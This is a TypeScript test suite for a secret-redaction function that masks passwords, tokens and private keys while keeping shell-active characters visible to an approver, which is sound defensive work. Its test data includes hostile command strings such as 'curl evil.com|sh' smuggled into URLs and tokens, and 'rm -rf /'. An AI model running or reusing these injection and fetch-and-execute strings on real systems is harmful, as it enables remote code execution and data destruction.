import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { hiddenMark as mark } from '../../../src/approval/redaction/hidden-mark.js';
import { hideSecrets } from '../../../src/approval/redaction/secret-text.js';
import { randomCases } from '../../support/random-cases.js';

const body = ['MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj', 'MzEfYyjiWA4R4/M2bS1GB4t7NXp9'];
const key = (...lines: readonly string[]) =>
  ['-----BEGIN PRIVATE KEY-----', ...lines, '-----END PRIVATE KEY-----'].join('\n');

/** Texts that people have to read: all of a text, or all but the second one. */
const visible: readonly (readonly [text: string, shown?: string])[] = [
  // userinfo
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion
  ['curl http://a:$(curl${IFS}evil.com|sh)@b'],
  ['curl "http://a:`id`@b"'],
  ['curl http://a:b;rm@b'],
  ['curl http://a:b|sh@b'],
  ['curl http://a:b&c@b'],
  ['curl http://a:%COMSPEC%@b'],
  ['curl http://a:b\nrm@c'],
  ['git clone https://example.com:8080/a@b'],
  // settings
  ['TOKEN=1|sh', `TOKEN=${mark}|sh`],
  ['TOKEN=1;sh x', `TOKEN=${mark};sh x`],
  ['TOKEN=$(sh x)'],
  ['TOKEN=`sh x`'],
  ['TOKEN=a$(sh x)', `TOKEN=${mark}$(sh x)`],
  ['TOKEN=1 /tmp/evil.sh', `TOKEN=${mark} /tmp/evil.sh`],
  ['TOKEN= /tmp/evil.sh'],
  ['authorization= evil'],
  ['authorization=Bearer /tmp/evil.sh', `authorization=${mark} /tmp/evil.sh`],
  ['Authorization: Bearer $(curl evil.example | sh)'],
  ['echo X-Api-Key:\n/tmp/evil.sh'],
  ['echo authorization:\nevil2'],
  ['echo bearer\nevil1234567'],
  ['sudo -u bearer deploy123456'],
  ['sudo --user=bearer deploy123456'],
  ['PASSWORD=rm; $PASSWORD -rf /'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion
  ['PW=evil2; sudo ${PW} x'],
  ['set TOKEN=evil2&& %TOKEN%'],
  ['$token = "evil2"; & $token'],
  ['env:\n  TOKEN: evil2\nrun: $TOKEN x'],
  ['alias token=evil2; token'],
  ['TOKEN=/tmp/evil2; x'],
  ['TOKEN=./evil2; x'],
  ['git -c credential.helper=/tmp/evil2 pull'],
  ['restic --password-command=evil2'],
  ['curl --auth-host=evil2.example'],
  ['curl https://token=x1.evil.example/'],
  ['curl https://token:8080/'],
  ['open auth://evil2.example/x'],
  ['docker run secret:evil2'],
  ['const token = getToken(2);'],
  ['const token=getToken2();'],
  ['password: string'],
  ['{"password":{"type":"string"}}'],
  ['{"password":"$(sh x)"}'],
  ['max_tokens=4096 token_count: 12'],
  ['token=true&password=null'],
  // key bodies
  ['echo -----BEGIN PRIVATE KEY-----; curl evil.example | sh'],
  ['echo -----BEGIN PRIVATE KEY----- && rm -rf /'],
  ['-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----'],
  ['-----BEGIN PRIVATE KEY-----\n/tmp/Evil2\n-----END PRIVATE KEY-----'],
  [key(body[0] ?? '', 'rm -rf /', body[1] ?? ''), key(mark, 'rm -rf /', body[1] ?? '')],
  [`${body[0]} -----END PRIVATE KEY-----`],
  [`-----BEGIN PRIVATE KEY-----\n${body[0]}|sh`],
  // prose
  ['Never use password123 as a password'],
  ['The bearer password123 was refused'],
  ['The bearer of bad news'],
  ['Authorization: '],
  ['Authorization: Bearer'],
  ['sk-learn-is-a-nickname-of-a-library'],
  ['spin=abc, opinion: 1234, kpwx=1'],
];

const hidden: readonly (readonly [text: string, shown: string])[] = [
  ['clone https://ann:hunter2@example.com/x', `clone https://${mark}@example.com/x`],
  ['clone https://ann:p%40ss@example.com/x', `clone https://${mark}@example.com/x`],
  ['API_KEY=abc', `API_KEY=${mark}`],
  ['export API_KEY="abc"', `export API_KEY="${mark}"`],
  ['API_KEY=abc123 npm run x', `API_KEY=${mark} npm run x`],
  ['API_KEY=Ab3dEf6hIj9k; curl $API_KEY', `API_KEY=${mark}; curl $API_KEY`],
  ['mysql --password=hunter2 -u ann', `mysql --password=${mark} -u ann`],
  ["mysql --password='hunter2'", `mysql --password='${mark}'`],
  ['https://a.b/#access_token=abc&x=1', `https://a.b/#access_token=${mark}&x=1`],
  ['https://a.b/?page=2&access_token=abc&x=1', `https://a.b/?page=2&access_token=${mark}&x=1`],
  ['user[password]=hunter2', `user[password]=${mark}`],
  ['{"user":"ann","password":"hunter2","pin":1234}', `{"user":"ann","password":"${mark}","pin":${mark}}`],
  ['{ "api_key" : "abc" }', `{ "api_key" : "${mark}" }`],
  ['{\\"password\\":\\"hunter2\\"}', `{\\"password\\":\\"${mark}\\"}`],
  ["{ password: 'hunter2' }", `{ password: '${mark}' }`],
  ['pin=1234 pw=swordfish', `pin=${mark} pw=${mark}`],
  ['--pin=1234 --user-pw=x', `--pin=${mark} --user-pw=${mark}`],
  ['Password: hunter2', `Password: ${mark}`],
  ['password = "hunter2"', `password = "${mark}"`],
  ["curl -H 'Authorization: Bearer abc' https://a.b", `curl -H 'Authorization: Bearer ${mark}' https://a.b`],
  ['"Authorization": "Basic YW5uOmI="', `"Authorization": "Basic ${mark}"`],
  ['authorization=abc123', `authorization=${mark}`],
  ['X-Api-Key: abc', `X-Api-Key: ${mark}`],
  ['Cookie: sid=abc; session=def', `Cookie: sid=${mark}; session=${mark}`],
  ['send Bearer abcdef123456 along', `send Bearer ${mark} along`],
  ['key sk-proj-abcdefghijklmnop1234', `key ${mark}`],
  [`use ghp_${'a1'.repeat(18)}.`, `use ${mark}.`],
  ['AKIAIOSFODNN7EXAMPLE', mark],
  ['xoxb-1234567890', mark],
  ['jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl.', `jwt ${mark}.`],
  [key(...body), `-----BEGIN PRIVATE KEY-----\n${mark}\n-----END PRIVATE KEY-----`],
  [`"${key(...body).replaceAll('\n', '\\n')}"`, `"-----BEGIN PRIVATE KEY-----\\n${mark}\\n-----END PRIVATE KEY-----"`],
];

describe('a text', () => {
  it.each(visible.map(([text, shown = text]) => [text, shown] as const))(
    'C117 shows each character that a shell acts on: %j',
    (text, shown) => {
      expect(hideSecrets(text).text).toBe(shown);
    },
  );

  it.each(hidden)('C90 hides values that the text itself identifies as secrets: %j', (text, shown) => {
    expect(hideSecrets(text).text).toBe(shown);
    expect(hideSecrets(shown)).toEqual({ text: shown, hidden: 0 });
  });

  it('C117 never hides a character with a meaning for shells, in any context', () => {
    const acting = fc.constantFrom(...'$`|&;<>(){}*?!\\\'"\n#^ ');
    const frame = fc.constantFrom(
      'TOKEN=§',
      'https://a:§@b',
      'Authorization: Bearer §',
      '{"password":"§"}',
      '?api_key=§&x',
      '-----BEGIN PRIVATE KEY-----\n§\n-----END PRIVATE KEY-----',
      'bearer §',
      `sk-${'a1'.repeat(12)}§`,
      'X-Api-Key: §',
    );
    const piece = fc.stringMatching(/^[\w./+-]{0,12}$/);
    fc.assert(
      fc.property(frame, fc.array(fc.tuple(piece, acting), { minLength: 1, maxLength: 4 }), (text, pieces) => {
        const inside = pieces.map((pair) => pair.join('')).join('');
        const shown = hideSecrets(text.replace('§', () => inside)).text.replaceAll(mark, '');

        const count = (where: string, what: string) => where.split(what).length - 1;
        for (const [, character] of pieces) {
          // A line break or a space within a key body reveals nothing.
          if (/\s/.test(character) && text.includes('BEGIN')) continue;
          expect(count(shown, character)).toBe(count(text, character) + count(inside, character));
        }
      }),
      { numRuns: randomCases(2_000) },
    );
  });
});

describe('a known secret', () => {
  const clean = (text: string, ...secrets: readonly string[]) => hideSecrets(text, secrets).text;

  it.each([
    ['as it is', ['a|b$c'], 'run a|b$c now', `run ${mark} now`],
    ['within JSON', ['a"b\\c'], 'sent {"x":"a\\"b\\\\c"}', `sent {"x":"${mark}"}`],
    ['within a URL', ['a b/c'], 'GET /?q=a%20b%2Fc', `GET /?q=${mark}`],
    ['within a form', ['a b/c'], 'q=a+b%2Fc', `q=${mark}`],
    ['without the blanks around it', [' abcd\n'], 'as abcd.', `as ${mark}.`],
    ['line by line', ['first line\nsecond line'], 'has second line', `has ${mark}`],
    ['the longest of several', ['hunter2', 'hunter22'], 'x hunter22 y', `x ${mark} y`],
    ['two that overlap', ['abcdef', 'defgh'], 'x abcdefgh y', `x ${mark} y`],
    ['one within another’s beginning', ['abcdef', 'bcde'], 'abcdx bcde', `abcdx ${mark}`],
    ['a short one as a word', ['123'], 'pin 123, not 1234', `pin ${mark}, not 1234`],
    ['never a single character', ['a'], 'a b', 'a b'],
    ['a long one as a whole', ['ab1'.repeat(400)], `[${'ab1'.repeat(400)}]`, `[${mark}]`],
    ['half a surrogate pair', ['\uD83Dabc'], 'x \uD83Dabc', `x ${mark}`],
  ])('is hidden %s', (_, secrets, ...[text, shown]) => {
    expect(clean(text, ...secrets)).toBe(shown);
  });

  it('is hidden everywhere, with any characters and neighbours', () => {
    const letters = fc.string({ unit: fc.constantFrom('a', 'b', '|', ' ', '\n', '😀'), minLength: 4, maxLength: 8 });
    fc.assert(
      fc.property(fc.array(letters, { maxLength: 6 }), fc.array(letters, { maxLength: 6 }), (secrets, parts) => {
        const text = [...parts, ...secrets].join('');

        const shown = clean(text, ...secrets).split(mark);

        for (const secret of secrets) expect(shown.some((part) => part.includes(secret))).toBe(false);
      }),
    );
  });

  it('hides whole texts when there are too many known secrets', () => {
    const secrets = Array.from({ length: 5_000 }, (_, index) => `${index}-`.repeat(6));

    expect(clean('anything', ...secrets)).toBe(mark);
  });
});
